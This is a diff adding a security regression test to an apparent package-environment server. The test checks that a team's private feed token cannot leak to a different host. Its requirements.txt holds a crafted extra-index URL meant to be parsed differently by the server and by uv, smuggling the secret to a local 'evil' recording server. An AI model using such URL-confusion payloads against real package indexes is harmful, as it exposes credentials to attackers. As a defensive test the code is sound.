@@ -803,3 +803,63 @@ def test_a_sessions_folders_cannot_fill_the_servers_disk(server, bob):
             f"the session writes on the server's own disk ({int(free) >> 30} GB free)")
     finally:
         bob.post("/api/flows/disk/session/stop")
+
+
+# --- 15. a feed URL read one way by the server and another by uv: the team's secret leaks ----
+
+@contextlib.contextmanager
+def recording_server():
+    """bob's web server: it records every request line it gets."""
+    seen: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802
+            seen.append(f"{self.path} {self.headers.get('Authorization')}")
+            self.send_error(404)
+
+        def log_message(self, *args):
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    try:
+        yield f"127.0.0.1:{httpd.server_address[1]}", seen
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def test_a_managed_identitys_feed_secret_never_leaves_for_another_host(
+        server, bob, wheelhouse):
+    from helpers.index_server import LocalIndex
+
+    secret = "team-user:team-feed-token-0123"
+    with LocalIndex(wheelhouse.directory, auth=tuple(secret.split(":", 1))) as feed, \
+            recording_server() as (evil, seen), api(server, server.token) as admin:
+        host = feed.url.split("//", 1)[1].split("/", 1)[0]
+        r = admin.post("/api/identities", json={"name": "team"})
+        assert r.status_code == 201, r.text
+        r = admin.put(f"/api/identities/team/feeds/{host}", json={"secret": secret})
+        assert r.status_code == 200, r.text
+        r = admin.post("/api/roles", json={"name": "TeamUser", "scopes": ["identities:use:team"]})
+        assert r.status_code == 201, r.text
+        r = admin.post("/api/role-assignments", json={"user": "bob", "role": "TeamUser"})
+        assert r.status_code == 201, r.text
+        # the team's feed, as bob may use it, and an index that the server reads as <evil>
+        # but whose {private} it fills for the team's host (the text after the '@')
+        requirements = (f"-i http://{{private}}@{host}/simple\n"
+                        f"--extra-index-url http://{evil}/simple?{{private}}@{host}/simple\n"
+                        "tinyalpha==1.0\n")
+        r = bob.post("/api/flows", json={"name": "feedthief", "files": {
+            "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY, "requirements.txt": requirements}})
+        if r.status_code == 201:
+            r = bob.post("/api/flows/feedthief/environment/build", json={"identity": "team"})
+            assert r.status_code == 202, r.text
+            op = wait_operation(bob, r)
+            assert "team-feed-token" not in str(op)
+            refusal = str(op.get("error"))
+        else:
+            refusal = r.text  # refused when uploaded: fine too
+        assert "{private} may only be the whole user part" in refusal, refusal
+        token = secret.split(":", 1)[1]
+        assert not any(token in s or "dGVhbS" in s for s in seen), seen
